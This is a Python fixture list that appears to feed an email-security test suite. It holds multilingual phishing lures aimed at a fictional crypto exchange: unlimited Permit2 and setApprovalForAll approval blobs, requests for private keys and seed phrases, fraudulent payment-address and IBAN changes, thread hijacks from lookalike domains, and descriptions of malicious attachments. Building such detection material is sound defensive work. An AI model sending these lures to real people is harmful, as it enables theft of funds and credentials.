    lure("wallet-request", "en",
         "'market maker' asks treasury to sign a Permit2 typed-data blob granting an unknown spender unlimited USDT",
         ("Jonas Becker", "jonas@arclight-mm.com"), TANAKA,
         "Liquidity agreement - signature for the allowance",
         """Hi Mika,

To activate the liquidity agreement we need a one-time allowance signature from your hot wallet. It's an
off-chain signature only, no gas, no transaction.

Please paste this into your wallet's "sign typed data" and send us the signature:

{"domain":{"name":"Permit2","chainId":1,"verifyingContract":"0x000000000022D473030F116dDEE9F6B43aC78BA3"},
 "primaryType":"PermitSingle","message":{"details":{"token":"0xdAC17F958D2ee523a2206206994597C13D831ec7",
 "amount":"1461501637330902918203684832716283019655932542975","expiration":"1893456000","nonce":"0"},
 "spender":"0x7f2cD41aE5B0938e6C1a2D4f8B9E0c3A5d6F7e81","sigDeadline":"1794000000"}}

Thanks,
Jonas""", "2026-11-02 11:50 +0000"),
    lure("wallet-request", "ja",
         "'partner' asks for the hot wallet's exported private key 'for a migration audit'",
         ("山口 誠（ノースブリッジ・パートナーズ）", "m.yamaguchi@northbridge-partners.jp"), TANAKA_JA,
         "ウォレット移行監査に必要な情報のご提供のお願い",
         """田中様

いつもお世話になっております。ノースブリッジ・パートナーズの山口です。

先日ご依頼いただいたウォレット移行監査の件、移行前後の残高照合のため、
現行ホットウォレットの秘密鍵（エクスポートしたもの）をご提供いただけますでしょうか。
照合後、弊社で責任をもって破棄いたします。

お手数ですが、本日中にこのメールへの返信でお送りください。
パスワード付きZIPでも構いません。

山口""", "2026-11-04 13:05 +0900"),
    lure("wallet-request", "en",
         "'proof-of-reserves auditor' asks for the 24-word mnemonics of cold-storage shards",
         ("Meridian Assurance - Digital Assets", "attest@meridian-assurance.co"), TREASURY,
         "Proof-of-reserves attestation: cold storage verification",
         """Dear Treasury team,

As part of the 30 November proof-of-reserves attestation, we must verify control of each cold-storage
wallet independently of your systems.

Please enter the 24-word recovery phrase of each cold wallet shard in our secure attestation portal. The
phrases are encrypted client-side and never stored:

https://attest.meridian-assurance.co/cold/verify?client=kitsune-ex

We need all shards by 14 November to keep the publication date.

Kind regards,
Digital Asset Assurance, Meridian""", "2026-11-06 10:00 +0000"),
    lure("wallet-request", "zh",
         "OTC client changes its USDT (TRON) receiving address by mail and asks for today's settlement there",
         ("周静", "zhoujing.otc@qq.com"), LI,
         "【重要】我司收款地址变更通知",
         """李经理您好，

因我司钱包服务商调整，原收款地址即日起停用。今天的结算请打到新的地址：

USDT（TRC20）：TQm8wL5xR2vN7kP3yB9cF6dH1jS4gA0eZt

金额与昨天确认的一致：1,250,000 USDT。麻烦尽快安排，客户那边在等。
原地址请不要再使用。

周静
鑫源贸易 OTC 部""", "2026-11-08 14:22 +0800"),
    lure("wallet-request", "ar",
         "'liquidity partner' demands an urgent test transfer then the full amount to a new wallet",
         ("مازن العتيبي", "mazen.alotaibi@gulfliquid.io"), HADDAD,
         "عاجل: تحويل تجريبي قبل نهاية اليوم",
         """أخي عمر،

كما اتفقنا هاتفياً، نحتاج إلى إتمام التسوية اليوم قبل إغلاق السوق. يرجى إرسال تحويل تجريبي بقيمة
100 USDT إلى المحفظة الجديدة أدناه، وبعد التأكيد أرسل المبلغ الكامل 375,000 USDT مباشرة:

0x2C7bE1a94F0d3856aB1c7E9d42F6a0B8c3D5e917

المحفظة القديمة لم تعد تعمل. الأمر عاجل جداً، الإدارة تنتظر.

مازن""", "2026-11-09 15:10 +0400"),
    lure("wallet-request", "ko",
         "partner asks to sign raw calldata (setApprovalForAll to an unknown operator) on its own signing page",
         ("이준호 | 한빛코인 운영", "junho.lee@hanbitcoin-ops.com"), PARK,
         "NFT 보관 이전 건 서명 요청",
         """박대현 님,

지난번 말씀드린 NFT 커스터디 이전 건입니다. 아래 서명 페이지에서 지갑을 연결하고
트랜잭션에 서명만 해 주시면 나머지는 저희가 처리합니다.

서명 페이지: https://sign.hanbitcoin-ops.com/tx/7781
데이터: 0xa22cb4650000000000000000000000004e6b2d1f8c3a9e07b5d2c1f0a8e9b7d6c5a4f3e20000000000000000000000000000000000000000000000000000000000000001

하드웨어 지갑에 '알 수 없는 데이터'로 표시되어도 정상입니다.

이준호 드림""", "2026-11-11 10:30 +0900"),
    lure("wallet-request", "fr",
         "a 'supplier' announces a new IBAN in Lithuania for all future invoices, effective immediately",
         ("Service comptabilité - Datacentre Île-de-France", "compta@dcidf-hebergement.fr"), LAURENT,
         "Changement de coordonnées bancaires - à effet immédiat",
         """Madame, Monsieur,

Suite à un changement de banque, nous vous informons que nos coordonnées bancaires sont modifiées à
compter de ce jour. Merci de régler la facture n° DC-2026-4471 (12 960 EUR) ainsi que toutes les
factures à venir sur le compte suivant :

IBAN : LT70 3130 0100 0012 8874
BIC : REVOLT21

Merci de ne plus utiliser l'ancien RIB et de mettre à jour votre fichier fournisseurs dès aujourd'hui.

Service comptabilité""", "2026-11-13 09:40 +0100"),

    # -- attachment --------------------------------------------------------------------------------
    lure("attachment", "en",
         "'listing proposal' zip holding a .pdf.lnk that runs headless conhost + PowerShell",
         ("Token Listings | Velora Protocol", "listings@veloraprotocol.xyz"), CEO,
         "Q4 listing proposal - Velora (VLR)",
         """Dear Kitsune team,

Velora Protocol would like to apply for a listing on Kitsune Exchange in Q4. Our proposal with
tokenomics, market-maker commitments and the listing fee offer is attached.

Best regards,
Velora Protocol BD""", "2026-11-02 06:40 +0000",
         attachments=(Att("Velora_Q4_Listing_Proposal.zip",
                          zip_archive([("Q4_Listing_Proposal.pdf.lnk", _LISTING_LNK)]), ZIP),)),
    lure("attachment", "ja",
         "estimate sent as a .img disk image holding 見積書.pdf.lnk and a DLL",
         ("株式会社テクノバース 営業部", "sales@technoverse-sys.jp"), KEIRI,
         "お見積書送付のご案内（サーバー保守）",
         """キツネエクスチェンジ株式会社
経理部 御中

平素より大変お世話になっております。
ご依頼いただきましたサーバー保守契約のお見積書を添付にてお送りいたします。
ファイルをダブルクリックで開いてご確認ください。

株式会社テクノバース 営業部""", "2026-11-03 11:00 +0900",
         attachments=(Att("見積書_2026-11.img", _ESTIMATE_IMG, "application/octet-stream"),)),
    lure("attachment", "en",
         "Excel 'PnL model' as an .xll add-in (native code that loads on open)",
         ("Priyanka Rao", "priyanka.rao@tessellate-fund.com"), CFO,
         "PnL attribution model as promised",
         """Hi Emily,

Nice meeting you at the Singapore roundtable. As promised, here is the PnL attribution model we use for
our crypto book. It's packaged as an Excel add-in so the live price functions work; just open it and
click "Enable this add-in for this session only".

Best,
Priyanka""", "2026-11-04 08:30 +0000",
         attachments=(Att("PnL_Attribution_Model.xll", _XLL, "application/vnd.ms-excel"),)),
    lure("attachment", "fr",
         "AES 7z with the password in the body holds Facture_....pdf.vbs",
         ("Facturation", "facturation@nuage-conseil.fr"), LAURENT,
         "Facture FR-2026-1187 - relance",
         """Bonjour,

Sauf erreur de notre part, la facture FR-2026-1187 reste impayée. Vous la trouverez en pièce jointe
(archive protégée pour des raisons de confidentialité).

Mot de passe : FR1187

Merci de procéder au règlement sous 48 h.

Cordialement,
Le service facturation""", "2026-11-05 14:45 +0100",
         attachments=(Att("Facture_FR-2026-1187.7z", _FACTURE_7Z, "application/x-7z-compressed"),)),
    lure("attachment", "ar",
         "SVG 'bank statement' whose script rebuilds a zip with a .pdf.lnk (SVG smuggling)",
         ("بنك الخليج الرقمي - خدمة العملاء", "statements@gulfdigitalbank-ae.com"), HADDAD,
         "كشف حسابكم لشهر أكتوبر",
         """عميلنا العزيز،

نرفق لكم كشف الحساب الخاص بشهر أكتوبر 2026. يرجى فتح الملف المرفق في المتصفح لعرض الكشف.

مع تحيات،
خدمة العملاء""", "2026-11-06 09:15 +0400",
         attachments=(Att("كشف_الحساب_اكتوبر.svg", _SVG, "image/svg+xml"),)),
    lure("attachment", "ko",
         "'partner VPN' .msi from a non-corporate domain whose custom action runs PowerShell",
         ("한빛코인 인프라팀", "infra@hanbitcoin-net.com"), PARK,
         "파트너 전용 VPN 클라이언트 설치 안내",
         """박대현 님,

다음 주부터 양사 간 API 연동 테스트가 파트너 전용 VPN을 통해서만 가능합니다.
첨부된 설치 파일을 실행하시면 자동으로 설정됩니다. 관리자 권한이 필요합니다.

한빛코인 인프라팀""", "2026-11-07 11:20 +0900",
         attachments=(Att("KX_Partner_VPN.msi", _VPN_MSI, "application/x-msi"),)),
    lure("attachment", "zh",
         "zipped macOS script app '报价单.app' that curls and pipes a script to sh",
         ("陈立", "chenli.otc@126.com"), LI,
         "大宗报价单（请用Mac打开）",
         """李总好，

附件是本周的大宗报价单，用我们的报价工具打包的，请在Mac上解压后双击打开即可。
如提示“无法验证开发者”，请在“系统设置-隐私与安全性”里点“仍要打开”。

陈立""", "2026-11-09 10:50 +0800",
         attachments=(Att("报价单_2026Q4.zip", _QUOTE_APP, ZIP),)),
    lure("attachment", "en",
         "right-to-left override file name: 'Settlement_Nov<RLO>xcod.scr' shows as ...rcs.docx",
         ("Settlements Desk", "settlements@amberline-otc.com"), TREASURY,
         "November settlement statement",
         """Hello,

Please find November's settlement statement attached. Kindly confirm the balances by end of day.

Settlements Desk
Amberline OTC""", "2026-11-10 07:05 +0000",
         attachments=(Att(_RLO_NAME, pe_stub("rlo-scr"), "application/octet-stream"),)),
    lure("attachment", "ja",
         "'withholding tax confirmation' .docm from a lookalike HR domain with a Document_Open macro",
         ("人事部 給与担当", "kyuyo@kitsune-ex-hr.jp"), SUZUKI_JA,
         "【人事部】源泉徴収額のご確認（11/12まで）",
         """鈴木さん

今年度の源泉徴収額に誤りがあった可能性があるため、添付の確認書をご確認ください。
文書を開いた際に上部に黄色いバーが表示された場合は「コンテンツの有効化」を押してください。

人事部 給与担当""", "2026-11-11 09:30 +0900",
         attachments=(Att("源泉徴収額確認書.docm", _WITHHOLDING_DOCM,
                          "application/vnd.ms-word.document.macroEnabled.12"),)),
    lure("attachment", "en",
         "'contract reader' macOS .pkg whose postinstall downloads and runs an agent",
         ("DocuFlow", "sign@docuflow-secure.com"), CEO,
         "Haruto, you have 1 document to review: Mutual NDA - Kitsune / Orbis",
         """Hello Haruto Sato,

Orbis Digital has sent you a protected document (Mutual NDA - Kitsune / Orbis).

Protected documents open in the DocuFlow Reader for macOS, attached. Install it, then open the document
from the Reader.

This message was sent by DocuFlow on behalf of Orbis Digital.""", "2026-11-13 02:10 +0000",
         attachments=(Att("DocuFlowReader.pkg", _CONTRACT_PKG, "application/octet-stream"),)),
    lure("attachment", "en",
         "'remittance advice' zip with a .pdf.js JScript that fetches PowerShell",
         ("Accounts Payable", "ap@solvent-markets.io"), KEIRI,
         "Remittance advice - payment sent 14 Nov",
         """Hi,

We have released your payment today. The remittance advice is attached for your records.

Regards,
Accounts Payable""", "2026-11-14 03:30 +0000",
         attachments=(Att("Remittance_Advice_11-2026.zip", _REMIT_JS, ZIP),)),

    # -- conversation-hijack -----------------------------------------------------------------------
    lure("conversation-hijack", "en",
         "reply in Norden's real thread (In-Reply-To set) from the lookalike nordenliquidlty.com with an encrypted zip .pdf.lnk",
         ("Erik Lindqvist", "erik.lindqvist@nordenliquidlty.com"), TANAKA,
         "RE: November settlement schedule",
         """Hi Mika,

Following up on the schedule: our custodian has changed, so the standing settlement instructions are
updated from this cycle. The new SSI is attached (encrypted, password SSI-1107). Please use it for
Friday's run.

Best,
Erik

-----Original Message-----
From: Mika Tanaka <m.tanaka@kitsune-ex.co.jp>
Sent: Friday, 6 November 2026 10:02
Subject: RE: November settlement schedule

Hi Erik, Friday's cut-off at 15:00 JST works for us. Mika""", "2026-11-07 09:12 +0100",
         in_reply_to=NORDEN_THREAD, references=NORDEN_THREAD,
         attachments=(Att("Norden_SSI_Nov2026.zip", _NORDEN_LNK_ZIP, ZIP),)),
    lure("conversation-hijack", "ja",
         "Re: in Aoba's invoice thread from the digit-one lookalike aoba-so1.co.jp changing the bank account",
         ("小林 直樹", "n.kobayashi@aoba-so1.co.jp"), KEIRI,
         "Re: 11月分ご請求書送付の件",
         """キツネエクスチェンジ株式会社
経理部 ご担当者様

お世話になっております。アオバ・ソリューションズの小林です。
先ほどお送りした請求書について、大変恐縮ながら振込先口座に変更がございました。
今月分より下記口座へお振込みをお願いいたします。

  銀行名：住信SBIネット銀行 法人第一支店
  口座種別：普通
  口座番号：2087731
  口座名義：カ）アオバソリューションズ

旧口座は監査の関係で現在入金ができない状態です。
お手数ですが、本日中にご対応いただけますと幸いです。

> 2026/11/04 9:30 小林 直樹 <n.kobayashi@aoba-sol.co.jp>:
> 11月分のご請求書をお送りいたします。""", "2026-11-04 15:47 +0900",
         in_reply_to=AOBA_THREAD, references=AOBA_THREAD),
    lure("conversation-hijack", "fr",
         "TR: from the .com twin of a Paris law firm (no In-Reply-To) links a 'revised contract' on a SharePoint lookalike",
         ("Julien Moreau", "j.moreau@moreau-avocats.com"), LAURENT,
         "TR: Projet de bail commercial - version révisée",
         """Camille,

Je vous transfère la version révisée du bail, avec les commentaires du bailleur intégrés. Le document
est trop volumineux pour la messagerie, il est disponible ici :

https://moreau-avocats.sharepoint-docs.com/:b:/s/baux/EkR7Bail_v3

Connectez-vous avec votre compte Microsoft professionnel pour y accéder.

Bien à vous,
Julien Moreau
Avocat associé

-------- Message transféré --------
De : Julien Moreau <j.moreau@moreau-avocats.fr>
Objet : Projet de bail commercial""", "2026-11-06 17:30 +0100"),
    lure("conversation-hijack", "zh",
         "回复 in the auditor's thread from takshing-cpa.com (not .com.hk) asking for the wallet's signed message and seed 'backup check'",
         ("陳嘉欣", "kayan.chan@takshing-cpa.com"), LI,
         "回复: 2026年度审计 - 钱包余额确认",
         """李伟您好，

谢谢您昨天提供的地址清单。按照审计程序，我们还需要验证冷钱包备份的有效性，
请把冷钱包助记词的备份照片（或文字）发到本邮箱，我们核对后会立即删除。

麻烦在本周五前提供，谢谢！

陳嘉欣
德信會計師事務所

> 在 2026年11月5日，陳嘉欣 <kayan.chan@takshing-cpa.com.hk> 写道：
> 请提供截至10月31日的全部钱包地址清单。""", "2026-11-06 10:15 +0800",
         in_reply_to=TAKSHING_THREAD, references=TAKSHING_THREAD),
    lure("conversation-hijack", "ar",
         "RE: in Falcon Gate's thread from falcongate-ae.com switching the USDT receiving wallet",
         ("خالد المنصوري", "k.almansoori@falcongate-ae.com"), HADDAD,
         "RE: تسوية صفقة USDT الأسبوعية",
         """أخي عمر،

تحية طيبة،

بالإشارة إلى رسالتي السابقة، تم تغيير محفظة الاستلام لدينا بسبب ترقية أنظمة الحفظ. يرجى تحويل مبلغ
التسوية هذا الأسبوع إلى العنوان الجديد:

TXr4nG8kQw2Lm5Vb7Cz9Hd3Jf6Pa1Se0Ty

نرجو عدم استخدام العنوان السابق نهائياً.

خالد

-----Original Message-----
From: خالد المنصوري <k.almansoori@falcongate.ae>
Subject: تسوية صفقة USDT الأسبوعية""", "2026-11-08 11:05 +0400",
         in_reply_to=FALCON_THREAD, references=FALCON_THREAD),
    lure("conversation-hijack", "ko",
         "RE: in Hanbit's API thread from hanbltcoin.co.kr (l for i) with a zip of a 'new SDK' exe",
         ("김민준", "mj.kim@hanbltcoin.co.kr"), PARK,
         "RE: API 연동 테스트 일정",
         """박대현 님,

테스트 전에 저희 쪽 SDK가 업데이트되었습니다. 첨부된 파일로 교체해서 테스트 서버에 설치해 주시면
됩니다. 압축 비밀번호는 hb1107 입니다.

김민준 드림

-----Original Message-----
From: 김민준 <mj.kim@hanbitcoin.co.kr>
Subject: API 연동 테스트 일정""", "2026-11-09 14:00 +0900",
         in_reply_to=HANBIT_THREAD, references=HANBIT_THREAD,
         attachments=(Att("Hanbit_SDK_v4.2.zip",
                          zip_archive([("HanbitSDK_v4.2_setup.exe", pe_stub("hanbit-sdk"))], password="hb1107"), ZIP),)),
]
